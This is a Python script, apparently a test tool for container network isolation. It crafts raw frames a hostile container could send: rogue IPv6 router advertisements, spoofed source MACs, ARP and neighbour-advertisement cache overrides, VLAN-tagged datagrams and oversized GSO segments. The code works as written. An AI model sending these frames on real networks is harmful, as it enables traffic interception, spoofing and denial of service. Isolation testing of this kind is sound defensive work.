#!/usr/bin/env python3
"""Sends frames that a hostile container could send from an AF_PACKET socket (CAP_NET_RAW, a default capability in Docker), each
20 times, so that a counter of frames distinguishes them from the kernel's own ones.

  frames.py LINK ra                        a router advertisement: default router and prefix 2001:db8:bad::/64
  frames.py LINK forge MAC                 a frame with MAC as its source address
  frames.py LINK udp MAC SOURCE TO PORT    a datagram to MAC, with this source address; with `vlan` at the end: tagged (VLAN 7)
  frames.py LINK large MAC SOURCE TO PORT  a TCP segment of 20,000 bytes, which the device may split (struct virtio_net_hdr)
  frames.py LINK arp MAC ADDRESS           an ARP announcement to MAC: ADDRESS is here
  frames.py LINK na ADDRESS                the same for IPv6: a neighbour advertisement to all nodes
"""
import ipaddress
import socket
import struct
import sys

SOL_PACKET, PACKET_VNET_HDR = 263, 15   # linux/socket.h, linux/if_packet.h
NEEDS_CHECKSUM, GSO_TCPV4 = 1, 1        # linux/virtio_net.h: VIRTIO_NET_HDR_F_..., VIRTIO_NET_HDR_GSO_...


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff


def packed(mac):
    return bytes.fromhex(mac.replace(":", ""))


def ipv6(source, to, protocol, hops, payload):
    return struct.pack(">IHBB", 6 << 28, len(payload), protocol, hops) + source + to + payload


def advertisement(own):
    """RFC 4861, section 4.2, with a prefix information option and the source link-layer address."""
    source, to = (socket.inet_pton(socket.AF_INET6, address) for address in ("fe80::bad", "ff02::1"))
    prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xc0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\x01\x01" + own
    body = body[:2] + struct.pack(">H", checksum(source + to + struct.pack(">II", len(body), 58) + body)) + body[4:]
    return packed("33:33:00:00:00:01") + own + b"\x86\xdd" + ipv6(source, to, 58, 255, body)


def datagram(own, mac, source, to, port):
    source, to = ipaddress.ip_address(source), ipaddress.ip_address(to)
    length = 8 + 1
    pseudo = source.packed + to.packed + struct.pack(">IHH", length, 0, 17)
    udp = struct.pack(">HHHH", 40000, port, length, 0) + b"x"
    udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp) or 0xffff) + udp[8:]
    if source.version == 6:
        return packed(mac) + own + b"\x86\xdd" + ipv6(source.packed, to.packed, 17, 64, udp)
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, 17, 0) + source.packed + to.packed
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return packed(mac) + own + b"\x08\x00" + header + udp


def large_segment(own, mac, source, to, port):
    """IPv4 only. The device computes the checksum as well: from byte 34 on, and writes it to byte 16 from there."""
    source, to, size = socket.inet_aton(source), socket.inet_aton(to), 20000
    header = struct.pack(">BBHHHBBH", 0x45, 0, 40 + size, 0, 0, 64, 6, 0) + source + to
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    pseudo = ~checksum(source + to + struct.pack(">HH", 6, 20 + size)) & 0xffff
    tcp = struct.pack(">HHIIBBHHH", 40000, port, 0, 0, 5 << 4, 0x10, 1024, pseudo, 0)
    virtio = struct.pack("=BBHHHH", NEEDS_CHECKSUM, GSO_TCPV4, 54, 1400, 34, 16)
    return virtio + packed(mac) + own + b"\x08\x00" + header + tcp + b"x" * size


def arp_announcement(own, mac, address):
    """RFC 5227, section 2.3, as a reply: it overrides what the receiver knows."""
    address = socket.inet_aton(address)
    return packed(mac) + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2) + own + address + own + address


def neighbour_advertisement(own, address):
    """RFC 4861, section 4.4, with the flag Override."""
    source, to, address = (socket.inet_pton(socket.AF_INET6, text) for text in ("fe80::bad", "ff02::1", address))
    body = struct.pack(">BBHI", 136, 0, 0, 0x20000000) + address + b"\x02\x01" + own
    body = body[:2] + struct.pack(">H", checksum(source + to + struct.pack(">II", len(body), 58) + body)) + body[4:]
    return packed("33:33:00:00:00:01") + own + b"\x86\xdd" + ipv6(source, to, 58, 255, body)


def main(link, kind, *arguments):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((link, 0))
        own = sender.getsockname()[4]
        if kind == "ra":
            frame = advertisement(own)
        elif kind == "forge":
            frame = packed("ff:ff:ff:ff:ff:ff") + packed(arguments[0]) + b"\x88\xb5"   # a local experimental EtherType
        elif kind == "udp":
            frame = datagram(own, *arguments[:3], int(arguments[3]))
            if arguments[4:] == ("vlan",):
                frame = frame[:12] + b"\x81\x00\x00\x07" + frame[12:]
        elif kind == "large":
            sender.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
            frame = large_segment(own, *arguments[:3], int(arguments[3]))
        elif kind == "arp":
            frame = arp_announcement(own, *arguments)
        elif kind == "na":
            frame = neighbour_advertisement(own, *arguments)
        else:
            sys.exit(__doc__)
        for _ in range(20):
            sender.send(frame.ljust(60, b"\0"))


if __name__ == "__main__":
    main(*sys.argv[1:])
